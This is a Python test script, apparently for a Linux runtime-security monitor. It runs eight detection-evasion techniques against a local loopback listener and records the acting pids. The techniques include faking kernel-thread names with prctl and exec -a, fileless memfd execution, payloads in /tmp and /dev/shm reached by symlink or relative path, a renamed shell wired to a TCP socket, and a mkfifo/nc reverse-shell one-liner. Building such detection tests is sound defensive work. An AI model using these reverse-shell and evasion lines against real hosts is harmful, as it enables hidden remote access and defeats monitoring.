#!/usr/bin/env python3
"""Evasion attempts against rules that key on what the kernel shows; each writes what it did
(the acting pid) to the JSON file argv[1]. Local (loopback listener), bounded, self-cleaning.
argv[2] = a scratch dir under /tmp, argv[3] = a scratch dir outside any temp dir, argv[4] = sim_detach.py."""
import ctypes, json, os, shutil, socket, subprocess, sys, threading, time

out, tmpdir, plaindir, detach = sys.argv[1:5]
did = {}
libc = ctypes.CDLL(None, use_errno=True)

def listener():
    """A loopback 'attacker' that tells every shell to exit; returns (port, stop)."""
    srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", 0)); srv.listen(16); srv.settimeout(0.5)
    stop = threading.Event()
    def serve():
        while not stop.is_set():
            try:
                c, _ = srv.accept()
            except OSError:
                continue
            try:
                c.sendall(b"exit\n"); time.sleep(0.3); c.close()
            except OSError:
                pass
        srv.close()
    threading.Thread(target=serve, daemon=True).start()
    return srv.getsockname()[1], stop

port, stop = listener()

def detached(argv, pidfile):
    """Runs argv outside our process tree (no build tool in its lineage); returns the pid that exec'd."""
    subprocess.run([sys.executable, detach, "sh", "-c", 'echo $$ > "$0"; exec "$@"', pidfile] + argv, timeout=30)
    return int(open(pidfile).read())

# 1. prctl(PR_SET_NAME) to look like a kernel thread, then memfd_create: the rule keys on exe, not comm
pid = os.fork()
if pid == 0:
    libc.prctl(15, b"kworker/0:1", 0, 0, 0)
    os.close(os.memfd_create("payload", 1))
    os._exit(0)
os.waitpid(pid, 0)
did["prctl"] = {"pid": pid}

# 2. argv[0] rewritten ("exec -a"), stdin on a TCP socket
sh = "exec -a '[kthreadd]' /bin/sh -c 'read x; exit 0' < /dev/tcp/127.0.0.1/%d" % port
p = subprocess.Popen(["bash", "-c", sh]); p.wait()
did["argv0"] = {"pid": p.pid}

# 3. a symlink outside /tmp pointing at a payload in /tmp; 4. a relative path into /dev/shm
real = os.path.join(tmpdir, "real-payload"); shutil.copy("/bin/true", real)
link = os.path.join(plaindir, "innocent"); os.symlink(real, link)
did["symlink"] = {"pid": detached([link], os.path.join(plaindir, "pid.sym")), "exe": real}
shm = "/dev/shm/rtmon-ev-%d" % os.getpid(); os.makedirs(shm); shutil.copy("/bin/true", shm + "/payload")
did["relative"] = {"pid": detached(["sh", "-c", "cd %s && exec ./payload" % shm], os.path.join(plaindir, "pid.rel")),
                   "exe": shm + "/payload"}
shutil.rmtree(shm)

# 5. execveat(fd, "", AT_EMPTY_PATH) of a memfd (fexecve): fileless execution
code = ("import os; fd = os.memfd_create('x', 0); os.write(fd, open('/bin/true','rb').read()); "
        "os.execve(fd, ['true'], {})")
did["memfd_exec"] = {"pid": detached([sys.executable, "-c", code], os.path.join(plaindir, "pid.mfd"))}

# 6. a copied, renamed shell outside temp dirs with both stdio ends on a TCP connection (nc -e style)
kw = os.path.join(plaindir, "kworker"); shutil.copy("/bin/dash", kw)
s = socket.create_connection(("127.0.0.1", port))
p = subprocess.Popen([kw, "-c", "read x; exit 0"], stdin=s.fileno(), stdout=s.fileno()); p.wait(); s.close()
did["renamed_shell"] = {"pid": p.pid, "exe": kw}

# 7. argv longer than the capture limit, stdin on a socket
s = socket.create_connection(("127.0.0.1", port))
p = subprocess.Popen(["/bin/sh", "-c", "read x; exit 0", "pad"] + ["A" * 1000] * 6, stdin=s.fileno()); p.wait(); s.close()
did["long_argv"] = {"pid": p.pid}

# 8. the mkfifo reverse shell: no socket on the shell's fds, a relay at the other end of its pipes
fifo = os.path.join(tmpdir, "f"); os.mkfifo(fifo)
p = subprocess.Popen(["bash", "-c", "cat %s | /bin/sh -i 2>&1 | nc 127.0.0.1 %d > %s; echo $? > /dev/null" % (fifo, port, fifo)],
                     stderr=subprocess.DEVNULL)
try:
    p.wait(timeout=20)
except subprocess.TimeoutExpired:
    p.kill()
did["mkfifo"] = {"bash": p.pid}
stop.set()
json.dump(did, open(out, "w"))
